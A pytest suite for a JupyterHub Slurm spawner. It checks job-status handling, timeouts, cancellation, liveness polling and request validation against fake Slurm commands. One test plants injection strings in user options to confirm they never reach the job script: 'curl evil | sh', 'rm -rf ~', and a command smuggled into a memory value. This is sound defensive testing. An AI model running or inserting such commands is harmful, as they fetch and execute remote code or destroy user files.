"""The spawner against fake Slurm commands (shell scripts): a fast check of its decisions, in addition to the
end-to-end Molecule runs against a real Slurm."""

from __future__ import annotations

import asyncio
import contextlib
import os
import pwd
import socket
import stat
import time
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from jupyterhub import orm
from tornado import web
from traitlets.config import Config

from jupyterhub_hpc import request_rules
from jupyterhub_hpc.cluster_rules import validate_cluster
from jupyterhub_hpc.job_end import JobEnd
from jupyterhub_hpc.job_state import JobState
from jupyterhub_hpc.model import ModelFormatError, Request
from jupyterhub_hpc.services import HubServices
from jupyterhub_hpc.spawner import HPCSlurmSpawner, LinkedSpawn

CLUSTER = {
    "name": "demo",
    "max_walltime": "7d",
    "account_prefixes": ["def-"],
    "node_types": {"cpu": {"cores": 4, "memory": 8000}},
    "form": {
        "time": {"min": 0.5, "default": 1, "max": 8},
        "cores": {"min": 1, "default": 1, "max": 4},
        "memory": {"min": 256, "default": 512, "max": 8000},
    },
}


# The preflight's output for CLUSTER: what the hub receives (hpc_cluster_model).
SHIPPED = validate_cluster(CLUSTER).to_data()


def fake(tmp_path: Path, name: str, body: str) -> str:
    script = tmp_path / name
    script.write_text(f"#!/bin/sh\n{body}\n")
    script.chmod(script.stat().st_mode | stat.S_IXUSR)
    return str(script)


def free_port() -> int:
    """A port nothing listens on (bound, read, released)."""
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


@pytest.fixture(autouse=True)
def one_hub_per_test() -> Any:
    """Each test is a hub of its own: its services are made from the first spawner's configuration."""
    HubServices.reset()
    yield
    HubServices.reset()


SERVICES = set(HubServices.class_trait_names(config=True))
SPAWNER = set(HPCSlurmSpawner.class_trait_names(config=True))
_hub_settings: dict[str, Any] = {}  # what the hub's services of the current test were made with


def spawner(tmp_path: Path, **settings: Any) -> HPCSlurmSpawner:
    """A spawner configured as the hub does (``c.HPCSlurmSpawner``, ``c.HubServices``): each setting goes to the
    class that has it. The hub's services are made by the test's first spawner."""
    # The spawner looks the user up in the password database: use the account running the tests.
    name = pwd.getpwuid(os.getuid()).pw_name
    user = SimpleNamespace(name=name, url=f"/user/{name}/", escaped_name=name, id=1)
    hub = SimpleNamespace(
        public_host="", api_url="http://hub:8081/hub/api", base_url="/hub/", url="http://hub:8081/hub/", host=""
    )
    settings = {
        "exec_prefix": "",
        "accounts_cmd": fake(tmp_path, "sacctmgr", "echo def-alice"),
        "req_homedir": str(tmp_path),
        "req_keepvars": "PATH",
        # cluster: as the batchspawner role writes it, the preflight's model
        "cluster": SHIPPED,
        "job_board_cmd": "",
        "job_ledger_file": str(tmp_path / "jobs.json"),
        **settings,
    }
    config = Config()
    services = {key: value for key, value in settings.items() if key in SERVICES}
    if HubServices.initialized() and services != _hub_settings:
        HubServices.reset()  # a test's spawner configured otherwise: a hub of its own
    _hub_settings.clear()
    _hub_settings.update(services)
    extra = {}
    for key, value in settings.items():
        if key in SERVICES:
            config.HubServices[key] = value
        if key in SPAWNER:
            config.HPCSlurmSpawner[key] = value
        elif key not in SERVICES:  # not a setting (orm_spawner) or one the hub computes (req_homedir)
            extra[key] = value
    return HPCSlurmSpawner(user=user, hub=hub, config=config, **extra)


@pytest.mark.parametrize(
    ("answer", "status"),
    [
        ("echo 'RUNNING node1'", "running"),
        ("echo 'PENDING (Resources)'", "pending"),
        ("true", "gone"),  # an empty answer: the job is gone
        # An ended job squeue still lists (MinJobAge) under its end state: gone too, not "no answer".
        ("echo 'NODE_FAIL node1'", "gone"),
        ("echo 'TIMEOUT node1'", "gone"),
        ("echo 'COMPLETED node1'", "gone"),
        ("echo 'SUSPENDED node1'", "unknown"),
        ("echo 'NODE_FAILURES node1'", "unknown"),
        ("echo 'slurm_load_jobs error: Invalid job id specified' >&2; exit 1", "gone"),
        ("echo 'slurm_load_jobs error: Unable to contact slurm controller' >&2; exit 1", "unknown"),
        ("echo 'sudo: unable to resolve host' >&2; exit 1", "unknown"),
    ],
)
def test_only_slurm_saying_so_means_the_job_is_gone(tmp_path: Path, answer: str, status: str) -> None:
    s = spawner(tmp_path, batch_query_cmd=fake(tmp_path, "squeue", answer) + " {job_id}")
    s.job = JobState("42")
    assert asyncio.run(s.look()) == status


def test_slurm_refusal_is_reported_in_slurms_words(tmp_path: Path) -> None:
    sbatch = fake(tmp_path, "sbatch", "cat >/dev/null; echo 'sbatch: error: Invalid account' >&2; exit 1")
    s = spawner(tmp_path, batch_submit_cmd=sbatch)

    async def submit() -> None:
        await s.apply_options({"account": "def-alice"})
        await s.submit_batch_script()

    with pytest.raises(RuntimeError) as err:
        asyncio.run(submit())
    assert str(err.value) == "Slurm refused the job: sbatch: error: Invalid account"


def test_only_validated_values_reach_the_job_script(tmp_path: Path) -> None:
    captured = tmp_path / "script.sh"
    sbatch = fake(tmp_path, "sbatch", f"cat >{captured}; echo 7")
    template = "#SBATCH --mem={{memory}}\n{{prologue}}\n{{evil}}\n{{cmd}}\n"  # evil: a variable no setting has
    s = spawner(tmp_path, batch_submit_cmd=sbatch, batch_script=template)

    async def submit() -> Any:
        await s.apply_options({"account": "def-alice", "memory": "1024"})
        # What a crafted request might leave in user_options, next to the values that were validated: batchspawner
        # would merge it into the script's variables (subvars.update(self.user_options)).
        s.user_options = {"memory": "1G; curl evil | sh", "prologue": "rm -rf ~", "evil": "curl evil | sh"}
        return await s.submit_batch_script()

    assert asyncio.run(submit()) == "7"
    script = captured.read_text()
    assert script.startswith("#SBATCH --mem=1024M\n\n\n")
    assert "evil" not in script and "rm -rf" not in script


def test_the_job_script_is_rendered_from_the_validated_request_alone(tmp_path: Path) -> None:
    s = spawner(tmp_path)
    request = asyncio.run(s.validated({"account": "def-alice", "time": "2", "cores": "3", "memory": "2G"}))
    assert isinstance(request, Request)
    with pytest.raises(AttributeError):  # frozen: nothing changes it after validation
        request.cores = 4  # type: ignore[misc]
    subvars = s.job_script_vars(request)
    assert {k: subvars[k] for k in ("account", "runtime", "nprocs", "memory", "gpus", "partition")} == {
        "account": "def-alice",
        "runtime": "02:00:00",
        "nprocs": "3",
        "memory": "2048M",
        "gpus": "",
        "partition": "",
    }
    s.user_options = {"nprocs": "999", "memory": "1T", "prologue": "id"}
    assert s.job_script_vars(request) == subvars  # user_options are not read


def test_nothing_is_submitted_without_a_validated_request(tmp_path: Path) -> None:
    called = tmp_path / "called"
    s = spawner(tmp_path, batch_submit_cmd=fake(tmp_path, "sbatch", f"touch {called}; echo 7"))
    s.user_options = {"account": "def-alice"}  # never applied
    with pytest.raises(RuntimeError, match="No validated Server Options"):
        asyncio.run(s.submit_batch_script())
    assert not called.exists()


def test_a_request_is_validated_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    calls: list[Any] = []
    real = request_rules.validate_request

    def counting(options: Any, *args: Any) -> Request:
        calls.append(dict(options))
        return real(options, *args)

    monkeypatch.setattr(request_rules, "validate_request", counting)
    s = spawner(tmp_path)

    async def form_then_spawn() -> Request | None:
        options = await s.options_from_form({"account": ["def-alice"], "cores": ["2"], "_xsrf": ["x"]})
        await s.apply_options(dict(options))  # the hub hands the same options (maybe a copy) to the spawn
        return s.job_request

    request = asyncio.run(form_then_spawn())
    assert request is not None and request.cores == 2
    assert calls == [{"account": "def-alice", "cores": "2"}]  # by options_from_form only

    async def api_spawn() -> Request | None:
        await s.apply_options({"account": "def-alice", "cores": 2})  # the REST API: validated here, once
        return s.job_request

    request = asyncio.run(api_spawn())
    assert request is not None and request.cores == 2 and len(calls) == 2


def test_the_spawner_loads_the_preflights_model_and_refuses_anything_else(tmp_path: Path) -> None:
    assert spawner(tmp_path).model == validate_cluster(CLUSTER)
    with pytest.raises(ModelFormatError, match=r"HPCSlurmSpawner\.cluster\.schema: missing"):
        _model = spawner(tmp_path, cluster=CLUSTER).model  # the inventory's raw hpc_cluster: not what the hub loads
    with pytest.raises(ModelFormatError, match="reads schema 1"):
        _model = spawner(tmp_path, cluster={**SHIPPED, "schema": 2}).model


def test_one_squeue_answers_every_pending_spawn(tmp_path: Path) -> None:
    calls = tmp_path / "calls"
    board = fake(tmp_path, "squeue-all", f"echo \"$1\" >>{calls}; echo '7 RUNNING node1'; echo '8 PENDING n/a'")
    per_job = fake(tmp_path, "squeue", "echo 'slurm_load_jobs error: Invalid job id specified' >&2; exit 1")
    spawners = []
    for job_id in ["7", "8", "9"] * 10:  # 30 spawns asking at once
        s = spawner(
            tmp_path, job_board_cmd=board + " {job_ids}", job_board_interval=0.2, batch_query_cmd=per_job + " {job_id}"
        )
        s.job = JobState(job_id)
        spawners.append(s)

    async def ask_all() -> list[str]:
        return list(await asyncio.gather(*(s.look() for s in spawners)))

    statuses = asyncio.run(ask_all())
    assert statuses == ["running", "pending", "gone"] * 10
    assert calls.read_text().splitlines() == ["7,8,9"]  # one query for all; 9 confirmed gone by its own query


def test_a_board_without_answer_keeps_the_job(tmp_path: Path) -> None:
    board = fake(tmp_path, "squeue-all", "echo 'slurm_load_jobs error: Unable to contact slurm controller' >&2; exit 1")
    s = spawner(tmp_path, job_board_cmd=board + " {job_ids}", batch_query_cmd="false {job_id}")
    s.job = JobState("7")
    assert asyncio.run(s.look()) == "unknown"


def recording_scancel(tmp_path: Path, cancelled: Path) -> str:
    """A cancel_cmd whose scancel appends the job id to ``cancelled``."""
    return fake(tmp_path, "scancel", f"echo $1 >>{cancelled}") + " {job_id}"


def pending_job_spawner(tmp_path: Path, cancelled: Path, **config: Any) -> HPCSlurmSpawner:
    """sbatch answers job 7, which stays pending; scancel appends the job id to ``cancelled``."""
    settings: dict[str, Any] = {
        "batch_submit_cmd": fake(tmp_path, "sbatch", "cat >/dev/null; echo 7"),
        "job_board_cmd": fake(tmp_path, "squeue-all", "echo '7 PENDING n/a'") + " {job_ids}",
        "job_board_interval": 0.1,
        "cancel_cmd": recording_scancel(tmp_path, cancelled),
        "job_watch_interval": 0.2,
    }
    return spawner(tmp_path, **{**settings, **config})


def timed_out_start(s: HPCSlurmSpawner) -> str:
    """Start ``s`` (a pending_job_spawner with a short pending_timeout): the message of the start's failure."""

    async def start() -> Any:
        await s.apply_options({"account": "def-alice"})
        return await s.start()

    with pytest.raises(RuntimeError) as err:
        asyncio.run(start())
    return str(err.value)


def test_a_job_still_pending_at_the_timeout_is_cancelled_and_explained(tmp_path: Path) -> None:
    cancelled = tmp_path / "cancelled"
    s = pending_job_spawner(
        tmp_path,
        cancelled,
        pending_reason_cmd=fake(tmp_path, "squeue-reason", "echo Resources") + " {job_id}",
        pending_timeout=1.0,
    )
    message = timed_out_start(s)
    assert message.startswith("Timeout. Your job 7 was still waiting in the Slurm queue after 1 seconds")
    assert "(Slurm's reason: Resources), so it was cancelled." in message
    assert "ask only for what you need" in message
    assert cancelled.read_text().strip() == "7"
    assert s.job.id == ""


def test_start_returns_once_the_server_accepts_connections(tmp_path: Path) -> None:
    """JupyterHub's own check backs off exponentially; the spawner's fixed short poll sees the server first."""
    s = spawner(tmp_path, port_poll_interval=0.05, http_timeout=30)

    async def server_later() -> bool:
        port = free_port()

        async def serve() -> asyncio.Server:
            await asyncio.sleep(0.3)  # the job reported its port; the server is still importing
            return await asyncio.start_server(lambda _r, w: w.close(), "127.0.0.1", port)

        server_task = asyncio.ensure_future(serve())
        ready = await s.wait_for_port("127.0.0.1", port)
        (await server_task).close()
        return ready

    assert asyncio.run(server_later()) is True


def test_a_server_that_never_listens_is_left_to_the_hubs_check(tmp_path: Path) -> None:
    s = spawner(tmp_path, port_poll_interval=0.05, http_timeout=1)
    port = free_port()
    assert asyncio.run(s.wait_for_port("127.0.0.1", port)) is False
    assert asyncio.run(spawner(tmp_path, port_poll_interval=0).wait_for_port("127.0.0.1", port)) is False


def test_a_job_that_ends_after_reporting_its_port_fails_the_wait(tmp_path: Path) -> None:
    gone = fake(tmp_path, "squeue", "echo 'slurm_load_jobs error: Invalid job id specified' >&2; exit 1")
    s = spawner(tmp_path, port_poll_interval=0.05, http_timeout=30, job_watch_interval=0.2, batch_query_cmd=gone)
    s.job = JobState("7")
    port = free_port()
    with pytest.raises(RuntimeError, match="Job 7 ended before the server started"):
        asyncio.run(s.wait_for_port("127.0.0.1", port))


def test_an_interrupted_start_leaves_no_job_behind(tmp_path: Path) -> None:
    """The user's Cancel while the job is pending (JupyterHub cancels start()): the job is scancel'ed even when a
    query failed at that moment and batchspawner forgot the job id."""
    cancelled = tmp_path / "cancelled"
    s = pending_job_spawner(tmp_path, cancelled)

    async def start_then_cancel() -> None:
        await s.apply_options({"account": "def-alice"})
        starting = asyncio.ensure_future(s.start())
        await asyncio.sleep(1)
        s.clear_state()  # what batchspawner did when a query failed during the interruption
        starting.cancel()
        with pytest.raises(asyncio.CancelledError):
            await starting

    asyncio.run(start_then_cancel())
    assert cancelled.read_text().split() == ["7"]


def test_the_hubs_own_queries_start_with_the_one_squeue_setting(tmp_path: Path) -> None:
    ledger = str(tmp_path / "jobs.json")
    s = HubServices(squeue="/opt/slurm/bin/squeue", job_ledger_file=ledger)
    assert s.job_board_cmd == "/opt/slurm/bin/squeue --noheader --jobs={job_ids} --format='%i %T %B %S %r'"
    assert s.pending_reason_cmd == "/opt/slurm/bin/squeue --noheader --jobs={job_id} --format=%r"
    assert s.lost_jobs_cmd == "/opt/slurm/bin/squeue --noheader --user={username} --name=jupyterhub --format=%i"
    assert HubServices(job_ledger_file=ledger).job_board_cmd.startswith("/usr/bin/squeue ")
    assert HubServices(squeue="x", job_board_cmd="", job_ledger_file=ledger).job_board_cmd == ""  # set: no board
    # The job name the job script gives, which the reconciler's search looks for: one setting.
    assert "--name=jh-demo " in HubServices(job_name="jh-demo", job_ledger_file=ledger).lost_jobs_cmd


def test_the_default_output_tail_is_the_packages_own_script() -> None:
    tail = HPCSlurmSpawner().output_tail_cmd
    assert tail.startswith("/usr/bin/python3 -I -S /") and tail.endswith(
        "/jupyterhub_hpc/job_tail.py {max_bytes} {job_output} {job_id}"
    )
    assert Path(tail.split()[3]).is_file()


def test_a_refused_rest_request_is_not_kept(tmp_path: Path) -> None:
    """JupyterHub saves a REST spawn's body (any size, any shape) in its database before apply_options runs: a
    refused one is dropped from the database and the spawner, an accepted one is kept as its validated fields."""
    db = orm.new_session_factory("sqlite://")()
    user = orm.User(name="alice")
    db.add(user)
    db.commit()
    kept = orm.Spawner(user=user, name="")
    db.add(kept)
    hostile: dict[str, Any] = {"account": "def-alice", "time": "9" * 1_000_000, "x": [0] * 10_000}
    kept.user_options = hostile  # as JupyterHub's User.spawn does
    db.commit()
    s = spawner(tmp_path, orm_spawner=kept)
    s.user_options = hostile

    with pytest.raises(web.HTTPError) as err:
        asyncio.run(s.apply_options(hostile))
    assert err.value.status_code == 400
    db.expire_all()
    assert s.user_options == {} and db.query(orm.Spawner).one().user_options == {}

    asyncio.run(s.apply_options({"account": "def-alice", "cores": 2}))
    db.expire_all()
    # The next form shows them; the database keeps nothing that a later empty REST body would start again.
    assert s.user_options == {"account": "def-alice", "cores": 2}
    assert db.query(orm.Spawner).one().user_options == {}


def test_a_link_never_starts_a_server_it_fills_the_form(tmp_path: Path) -> None:
    """GET /hub/spawn?cores=4&... (a link another user's page sends the browser to): JupyterHub calls
    options_from_query and spawns with what it returns; here it raises, so the hub shows the form with the link's
    values in it and a message, and nothing is submitted."""
    s = spawner(tmp_path)
    query = {"account": ["def-alice"], "cores": ["4"], "memory": ["8000"], "time": ["8"], "evil": ["x"]}
    with pytest.raises(LinkedSpawn, match="press Start"):
        asyncio.run(s.options_from_query(query))
    assert s.job_request is None
    page = asyncio.run(s.render_form())
    assert 'value="8000"' in page
    assert 'value="8000"' not in asyncio.run(s.render_form())  # that page only: never the user's later forms


def test_the_form_shows_again_only_what_a_field_may_hold(tmp_path: Path) -> None:
    s = spawner(tmp_path)
    with pytest.raises(ValueError, match="is too long"):
        asyncio.run(s.options_from_form({"account": ["def-alice"], "time": ["1" * 100_000]}))
    assert s._submitted == {"account": "def-alice"}


@pytest.mark.parametrize("delay", [0.0, 0.05, 0.15, 0.25])  # sbatch takes 0.3 s
def test_a_start_cancelled_during_sbatch_loses_no_job(tmp_path: Path, delay: float) -> None:
    """The Stop (or Log Out, or the API's DELETE) that cancels a start while sbatch is still running: the job
    sbatch submits is recorded in the ledger and cancelled, whatever the moment. Without the shield, sbatch is
    killed mid-call and a job Slurm accepted would be known to no one."""
    cancelled = tmp_path / "cancelled"
    sbatch = fake(tmp_path, "sbatch", "cat >/dev/null; sleep 0.3; echo 7")
    scancel = fake(tmp_path, "scancel", f'echo "$1" >>{cancelled}')
    s = spawner(tmp_path, batch_submit_cmd=sbatch, cancel_cmd=scancel + " {job_id}")

    async def start_then_cancel() -> None:
        await s.apply_options({"account": "def-alice"})
        starting = asyncio.ensure_future(s.submit_batch_script())
        await asyncio.sleep(delay)
        starting.cancel()
        with contextlib.suppress(asyncio.CancelledError):
            await starting
        for _i in range(50):  # the submission ends by itself, then its job is cancelled
            if cancelled.exists():
                break
            await asyncio.sleep(0.1)

    asyncio.run(start_then_cancel())
    assert cancelled.read_text().split() == ["7"]
    assert s.services.ledger.jobs() == {}  # cancelled: forgotten once Slurm said so
    assert s.job.id == "" and s.services.owned() == set()


def server_at(port: int) -> Any:
    return SimpleNamespace(ip="127.0.0.1", port=port)


def running_spawner(tmp_path: Path, port: int, cancelled: Path) -> HPCSlurmSpawner:
    squeue = fake(tmp_path, "squeue", "echo 'RUNNING node7'")
    scancel = fake(tmp_path, "scancel", f'echo "$1" >>{cancelled}')
    s = spawner(
        tmp_path,
        batch_query_cmd=squeue + " {job_id}",
        cancel_cmd=scancel + " {job_id}",
        answer_timeout=0.5,
        poll_interval=1,
    )
    s.job = JobState("42")
    type(s).server = property(lambda self: server_at(port))
    return s


def test_a_running_server_whose_port_stops_answering_is_ended_after_several_polls(tmp_path: Path) -> None:
    """Slurm still says RUNNING (a node gone: Slurm notices minutes later), the port does not answer: the third
    poll in a row ends the server, cancels its job, and the next form says why."""
    cancelled = tmp_path / "cancelled"
    s = running_spawner(tmp_path, free_port(), cancelled)
    try:
        assert asyncio.run(s.poll()) is None
        assert asyncio.run(s.poll()) is None
        assert asyncio.run(s.poll()) is None  # three in a row, but within less than two poll intervals
        assert not cancelled.exists()
        time.sleep(2.1)
        assert asyncio.run(s.poll()) == 1
    finally:
        del type(s).server
    assert cancelled.read_text().split() == ["42"]
    assert s.job.id == ""
    assert s.job.end == JobEnd("42", "NO_ANSWER", "node7")
    assert "stopped answering on node node7" in s.job.end.message()


def test_a_server_that_answers_resets_the_count(tmp_path: Path) -> None:
    cancelled = tmp_path / "cancelled"
    with socket.socket() as listening:
        listening.bind(("127.0.0.1", 0))
        listening.listen()
        port = listening.getsockname()[1]
        s = running_spawner(tmp_path, port, cancelled)
        try:
            s.liveness.unanswered = 2
            assert asyncio.run(s.poll()) is None
            assert s.liveness.unanswered == 0
        finally:
            del type(s).server
    assert not cancelled.exists()


def test_the_hubs_own_check_and_unresolvable_names_decide_nothing(tmp_path: Path) -> None:
    """After a hub restart JupyterHub checks every server itself (http_timeout) and a blip of the hub's network must
    not end every server: during that check, for a name that does not resolve, or for an address that is not the
    node's, poll says running and counts nothing."""
    cancelled = tmp_path / "cancelled"
    s = running_spawner(tmp_path, free_port(), cancelled)
    try:
        s._check_pending = True
        assert [asyncio.run(s.poll()) for _i in range(5)] == [None] * 5
        s._check_pending = False
        for host in ("no-such-node.invalid", "0.0.0.0", ""):
            server_for: list[Any] = [SimpleNamespace(ip=host, port=free_port())]
            type(s).server = property(lambda self: server_for[0])  # noqa: B023
            s.ip = host or "0.0.0.0"
            assert [asyncio.run(s.poll()) for _i in range(4)] == [None] * 4, host
        assert s.liveness.unanswered == 0
    finally:
        del type(s).server
    assert not cancelled.exists()


def test_a_resolver_that_never_answers_is_bounded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The node's name is looked up at most answer_timeout: a hung resolver neither holds a poll nor counts."""
    s = spawner(tmp_path, answer_timeout=0.3)

    async def hung(*args: Any, **kwargs: Any) -> Any:
        await asyncio.sleep(60)

    async def resolve() -> bool:
        monkeypatch.setattr(asyncio.get_running_loop(), "getaddrinfo", hung)
        return await s.liveness.resolve("node7", 8888, "alice")

    began = time.monotonic()
    assert asyncio.run(resolve()) is False
    assert time.monotonic() - began < 5
    assert s.liveness.address == ("", "")


def test_the_hubs_services_start_with_the_hub_and_spare_the_servers_it_saved(tmp_path: Path) -> None:
    """The hub loads the spawner's module while it loads its configuration: its services (the reconciler) start
    then, from the hub's configuration, before any spawner exists. Until a spawner gives its database session, the
    reconciler reads the hub's own: a server saved by this version or an earlier one owns its job."""
    from jupyterhub.app import JupyterHub

    from jupyterhub_hpc.services import start_with_hub

    config = Config()
    config.HubServices.job_ledger_file = str(tmp_path / "jobs.json")
    db = orm.new_session_factory("sqlite://")()
    for name, state in (("alice", JobState("7", "RUNNING", "node1").to_state()), ("bob", {"job_id": "8"})):
        user = orm.User(name=name)
        db.add(user)
        db.add(orm.Spawner(user=user, name="", state=state))
    db.commit()
    app = JupyterHub.instance(config=config)
    app.db = db
    try:

        async def hub_start() -> tuple[str, bool, set[str]]:
            start_with_hub()
            await asyncio.sleep(0)  # the hub goes on with its start
            services = HubServices.instance()
            task = services.reconciler._task
            return services.job_ledger_file, task is not None and not task.done(), services.owned()

        assert asyncio.run(hub_start()) == (str(tmp_path / "jobs.json"), True, {"7", "8"})
    finally:
        JupyterHub.clear_instance()


def test_the_job_is_told_where_its_server_binds(tmp_path: Path) -> None:
    """The job's environment names the address its server binds to (JUPYTERHUB_SERVICE_URL, from the ip trait's
    default as batchspawner gives it): an empty host there makes the server's start fail to resolve it."""
    env_file, cancelled = tmp_path / "env", tmp_path / "cancelled"
    s = pending_job_spawner(tmp_path, cancelled, pending_timeout=0.5)
    s.batch_submit_cmd = fake(tmp_path, "sbatch-env", f"cat >/dev/null; env >{env_file}; echo 7")

    async def start() -> Any:
        await s.apply_options({"account": "def-alice"})
        return await s.start()

    with pytest.raises(RuntimeError, match="still waiting in the Slurm queue"):
        asyncio.run(start())
    urls = [line for line in env_file.read_text().splitlines() if line.startswith("JUPYTERHUB_SERVICE_URL=")]
    assert urls == ["JUPYTERHUB_SERVICE_URL=http://0.0.0.0:0/"]  # SlurmSpawner.ip: every address of the node
